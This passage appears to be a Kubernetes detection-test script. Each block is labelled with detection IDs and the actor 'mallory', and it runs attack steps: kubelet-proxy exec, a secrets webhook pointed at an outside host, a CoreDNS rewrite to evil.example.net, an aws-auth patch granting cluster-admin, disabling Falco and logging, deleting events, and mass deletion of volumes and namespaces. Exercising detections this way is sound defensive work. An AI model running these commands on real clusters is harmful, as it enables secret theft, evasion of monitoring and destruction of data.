curl -s -o /dev/null -m 2 --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: bm90IGEgc2VjcmV0IGtleQ==' -H 'Sec-WebSocket-Protocol: v4.channel.k8s.io' \
  "$SERVER/api/v1/nodes/https:worker-1:10250/proxy/exec/monitoring/$pod/node-exporter?command=id&output=1" || true
#: kubelet-pods | D128 | mallory
kubectl get --raw /api/v1/nodes/worker-1/proxy/pods >/dev/null
#: kubelet-debug | D131 | mallory
kubectl get --raw /api/v1/nodes/worker-1/proxy/configz >/dev/null
kubectl get --raw /api/v1/nodes/worker-1/proxy/logs/ || true
#: service-proxy | D130 | mallory
kubectl get --raw /api/v1/namespaces/shop/services/cart:80/proxy/admin || true
#: pod-proxy | D130 | mallory
pod=$(kubectl get pods -n shop -l app=cart -o 'jsonpath={.items[0].metadata.name}')
kubectl get --raw "/api/v1/namespaces/shop/pods/$pod:8080/proxy/" || true

# --- what the cluster is told to do ---

#: webhook | D132 D133 | mallory
kubectl apply -f - <<'YAML'
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: sidecars}
webhooks:
- name: sidecars.example.net
  clientConfig: {url: "https://hooks.example.net/mutate"}
  rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [secrets]}]
  namespaceSelector: {matchLabels: {team: none}}
  failurePolicy: Ignore
  sideEffects: None
  admissionReviewVersions: [v1]
YAML
#: webhook-changed | D132 D133 | mallory
kubectl patch mutatingwebhookconfiguration sidecars --type=json -p '[{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://203.0.113.7/mutate"}]'
#: apiservice | D136 | mallory
kubectl apply -f - <<'YAML'
apiVersion: apiregistration.k8s.io/v1
kind: APIService
metadata: {name: v1beta1.external.metrics.k8s.io}
spec: {group: external.metrics.k8s.io, version: v1beta1, insecureSkipTLSVerify: true, groupPriorityMinimum: 100, versionPriority: 100, service: {name: cart, namespace: shop}}
YAML
#: crd-conversion | D137 | mallory
kubectl apply -f - <<'YAML'
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: widgets.example.net}
spec:
  group: example.net
  scope: Namespaced
  names: {plural: widgets, singular: widget, kind: Widget}
  versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object}}}, {name: v2, served: true, storage: false, schema: {openAPIV3Schema: {type: object}}}]
  conversion: {strategy: Webhook, webhook: {conversionReviewVersions: [v1], clientConfig: {url: "https://hooks.example.net/convert"}}}
YAML
#: policy-refused | D135 | mallory
kubectl create deployment newest -n shop --image=alpine:latest || true
#: policy-weakened | D134 | mallory
kubectl patch validatingadmissionpolicybinding no-latest --type=merge -p '{"spec":{"validationActions":["Audit"]}}'
#: policy-removed | D134 | mallory
kubectl delete validatingadmissionpolicybinding no-latest
kubectl delete validatingadmissionpolicy no-latest
#: coredns-config | D143 | mallory
kubectl patch configmap coredns -n kube-system --type=merge -p '{"data":{"Corefile":".:53 { rewrite name exact bank.example.com evil.example.net\n kubernetes cluster.local }"}}'
#: aws-auth | D141 | mallory
kubectl patch configmap aws-auth -n kube-system --type=merge -p '{"data":{"mapRoles":"- rolearn: arn:aws:iam::111122223333:role/eve\n  groups: [system:masters]\n"}}'
#: kubeadm-config | D142 | mallory
kubectl annotate configmap kubeadm-config -n kube-system note=x
kubectl patch configmap extension-apiserver-authentication -n kube-system --type=merge -p '{"data":{"requestheader-allowed-names":"[\"\"]"}}'
#: namespace | D144 | mallory
kubectl create namespace kube-sytem
#: external-ips | D013 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Service
metadata: {name: resolver, namespace: shop}
spec: {selector: {app: cart}, ports: [{port: 443}], externalIPs: [198.51.100.53]}
YAML
#: node-port | D011 | mallory
kubectl expose deployment cart -n shop --name=open --type=NodePort --port=8080
#: load-balancer | D012 | mallory
kubectl create service loadbalancer wide-open -n shop --tcp=80:8080
#: load-balancer-address | D013 | mallory
kubectl patch service wide-open -n shop --subresource=status --type=merge -p '{"status":{"loadBalancer":{"ingress":[{"ip":"198.51.100.53"}]}}}'
#: dashboard-exposed | D010 | mallory
kubectl create namespace kubernetes-dashboard
kubectl create service loadbalancer kubernetes-dashboard -n kubernetes-dashboard --tcp=443:8443
#: ingress-without-tls | D014 | mallory
kubectl create ingress plain -n shop --rule=plain.example.com/*=cart:80
#: ingress-snippet | D015 | mallory
kubectl create ingress snippet -n shop --rule=x.example.com/=cart:80,tls=x --annotation='nginx.ingress.kubernetes.io/configuration-snippet=lua_package_path "/tmp/?.lua";'
#: volume-host-path | D059 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: PersistentVolume
metadata: {name: scratch}
spec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], storageClassName: manual, hostPath: {path: /etc/kubernetes}}
YAML
#: node-labelled | D156 | mallory
kubectl label node worker-1 node-role.kubernetes.io/control-plane=
#: node-cordoned | D155 | mallory
kubectl cordon worker-2
#: node-untainted | D155 | mallory
kubectl taint node worker-1 dedicated=payments:NoSchedule
kubectl taint node worker-1 dedicated-
#: node-registered | D154 | mallory
kubectl create -f - <<'YAML'
apiVersion: v1
kind: Node
metadata: {name: worker-9}
YAML
#: node-deleted | D155 | mallory
kubectl delete node worker-9

# --- traces and damage ---

#: events-deleted | D146 | mallory
kubectl delete events --all -n ingress-nginx --wait=false >/dev/null
#: events-deleted-at-once | D146 | mallory
kubectl delete --raw /api/v1/namespaces/shop/events >/dev/null
#: event-deleted | D146 | mallory
kubectl delete --wait=false "$(kubectl get events -n kube-system -o name | head -1)" -n kube-system
#: falco-stopped | D153 | mallory
kubectl scale deployment falcosidekick -n falco --replicas=0
#: falco-nowhere | D153 | mallory
kubectl patch daemonset falco -n falco --type=merge -p '{"spec":{"template":{"spec":{"nodeSelector":{"none":"here"}}}}}'
#: logging-removed | D153 | mallory
kubectl delete daemonset fluent-bit -n logging --wait=false
#: network-policy-widened | D151 | mallory
kubectl patch networkpolicy default-deny -n shop --type=merge -p '{"spec":{"ingress":[{"from":[{"ipBlock":{"cidr":"0.0.0.0/0"}}]}]}}'
#: network-policy-deleted | D151 | mallory
kubectl delete networkpolicy default-deny -n shop
#: network-policy-opened | D151 | mallory
kubectl apply -f - <<'YAML'
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: open, namespace: shop}
spec: {podSelector: {}, ingress: [{}], egress: [{}], policyTypes: [Ingress, Egress]}
YAML
#: quota-deleted | D152 | mallory
kubectl delete resourcequota shop -n shop
kubectl delete limitrange shop -n shop
#: scaled-up | D152 | mallory
kubectl patch hpa front -n shop --type=merge -p '{"spec":{"maxReplicas":5000}}'
#: evicted | D149 | mallory
pod=$(kubectl get pods -n shop -l app=cart -o 'jsonpath={.items[0].metadata.name}')
kubectl create --raw "/api/v1/namespaces/shop/pods/$pod/eviction" -f - <<JSON
{"apiVersion":"policy/v1","kind":"Eviction","metadata":{"name":"$pod","namespace":"shop"}}
JSON
#: pod-deleted | D149 | mallory
kubectl delete pod -n kube-system -l k8s-app=kube-dns --wait=false
#: claims-deleted | D150 | mallory
kubectl delete pvc --all -n payments --wait=false
#: volumes-deleted | D150 | mallory
kubectl delete pv --all --wait=false
#: deployment-deleted | D148 | mallory
kubectl delete deployment front -n shop --wait=false
#: mass-deletion | D147 | mallory
for number in $(seq 30); do echo "---"; echo "{apiVersion: v1, kind: ConfigMap, metadata: {name: page-$number, namespace: payments}}"; done | kubectl create -f - >/dev/null
kubectl delete configmaps,deployments,services,statefulsets,jobs --all -n payments --wait=false >/dev/null
#: namespace-deleted | D145 | mallory
kubectl delete namespace payments --wait=false
